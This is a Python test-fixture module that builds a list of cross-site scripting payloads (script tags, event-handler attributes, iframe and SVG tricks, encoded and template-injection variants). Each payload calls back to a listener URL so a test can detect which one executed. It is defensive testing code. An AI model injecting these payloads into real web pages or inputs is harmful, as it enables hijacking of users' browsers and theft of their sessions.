"""Texts that a shop or a forged request may carry and that must never run in a browser. Each calls back when it does."""

from __future__ import annotations

# {url} of a listener, {n} tells which one ran. Short enough for a column of 140 characters.
_TEXTS = (
    "<script>fetch('{url}/{n}')</script>",
    "<script src={url}/{n}></script>",
    "<img src=x onerror=fetch('{url}/{n}')>",
    # Valid JSON, which Frappe stores without cleaning.
    "\"<img src=x onerror=fetch('{url}/{n}')>\"",
    "'\"><img src=x onerror=fetch('{url}/{n}')>",
    "<svg onload=fetch('{url}/{n}')>",
    "<svg><script>fetch('{url}/{n}')</script></svg>",
    "<iframe src=\"javascript:fetch('{url}/{n}')\"></iframe>",
    "<iframe srcdoc=\"<script>fetch('{url}/{n}')</script>\">",
    "<details open ontoggle=fetch('{url}/{n}')>",
    "<input autofocus onfocus=fetch('{url}/{n}')>",
    "<video><source onerror=fetch('{url}/{n}')></video>",
    "<body onload=fetch('{url}/{n}')>",
    "</textarea><img src=x onerror=fetch('{url}/{n}')>",
    "</script><script>fetch('{url}/{n}')</script>",
    "<math><mtext><img src=x onerror=fetch('{url}/{n}')>",
    "<img src=x onerror=fetch('{url}/{n}')//",
    "&lt;img src=x onerror=fetch('{url}/{n}')&gt;",
    "\\u003cimg src=x onerror=fetch('{url}/{n}')\\u003e",
    "<style>@import '{url}/{n}'</style>",
    "<object data={url}/{n}></object>",
    "<link rel=stylesheet href={url}/{n}>",
    "{{{{ fetch('{url}/{n}') }}}}<%= fetch('{url}/{n}') %>",
    "\" onpointerenter=fetch('{url}/{n}') autofocus onfocus=fetch('{url}/{n}') x=\"",
    '{{"a": "<img src=x onerror=fetch(\'{url}/{n}\')>"}}',
)
COUNT = len(_TEXTS)


def hostile_texts(url: str) -> list[str]:
    """One of each, with its own number in the URL that it calls."""
    return [text.format(url=url, n=f"{number:02d}") for number, text in enumerate(_TEXTS)]
